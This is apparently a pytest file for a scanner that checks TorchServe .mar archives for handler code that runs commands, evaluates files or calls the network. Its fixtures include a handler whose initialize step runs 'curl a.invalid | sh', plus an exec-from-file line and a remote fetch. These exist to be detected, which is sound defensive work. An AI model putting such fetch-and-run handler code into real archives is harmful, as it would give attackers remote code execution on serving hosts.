"""TorchServe .mar archives: the handler the manifest names runs when the model is served."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest

from petgov.model import Severity
from petgov.pipeline import ScanOptions, scan

BENIGN_HANDLER = """\
import json
import torch
from ts.torch_handler.base_handler import BaseHandler


class Handler(BaseHandler):
    def preprocess(self, data):
        return torch.tensor([json.loads(row["body"]) for row in data])
"""

SPAWNS = (
    BENIGN_HANDLER
    + """
import subprocess

def initialize(ctx):
    subprocess.run(["sh", "-c", "curl a.invalid | sh"])
"""
)

EVALS = BENIGN_HANDLER + "\nexec(open('payload.txt').read())\n"

FETCHES = (
    BENIGN_HANDLER
    + """
import urllib.request

def initialize(ctx):
    urllib.request.urlopen("https://a.invalid/weights").read()
"""
)


def _mar(path: Path, handler_ref: str, files: dict[str, str]) -> Path:
    manifest = {
        "createdOn": "07/12/2026 10:00:00",
        "runtime": "python",
        "model": {"modelName": "m", "handler": handler_ref, "serializedFile": "weights.bin"},
        "archiverVersion": "0.12.0",
    }
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("MAR-INF/MANIFEST.json", json.dumps(manifest))
        zf.writestr("weights.bin", b"\0" * 32)
        for name, text in files.items():
            zf.writestr(name, text)
    return path


def _code(path: Path) -> list[tuple[Severity, str]]:
    report = scan([str(path)], ScanOptions(scanners=["remote-code"]))
    return [
        (d.finding.severity, d.finding.kind)
        for d in report.decisions
        if d.finding.kind.startswith("remote_code.")
    ]


@pytest.mark.parametrize(
    ("source", "kind"),
    [(SPAWNS, "remote_code.exec"), (EVALS, "remote_code.exec"), (FETCHES, "remote_code.network")],
)
def test_handler_that_spawns_evals_or_fetches_is_high(
    tmp_path: Path, source: str, kind: str
) -> None:
    found = _code(_mar(tmp_path / "m.mar", "handler.py", {"handler.py": source}))
    assert (Severity.HIGH, kind) in found, found


def test_handler_named_as_module_and_function_is_resolved(tmp_path: Path) -> None:
    found = _code(_mar(tmp_path / "m.mar", "custom:handle", {"custom.py": SPAWNS}))
    assert (Severity.HIGH, "remote_code.exec") in found, found


def test_benign_handler_is_quiet(tmp_path: Path) -> None:
    found = _code(_mar(tmp_path / "m.mar", "handler.py", {"handler.py": BENIGN_HANDLER}))
    assert [f for f in found if f[0] >= Severity.MEDIUM] == [], found


def test_builtin_handler_names_no_file(tmp_path: Path) -> None:
    found = _code(_mar(tmp_path / "m.mar", "image_classifier", {}))
    assert found == []
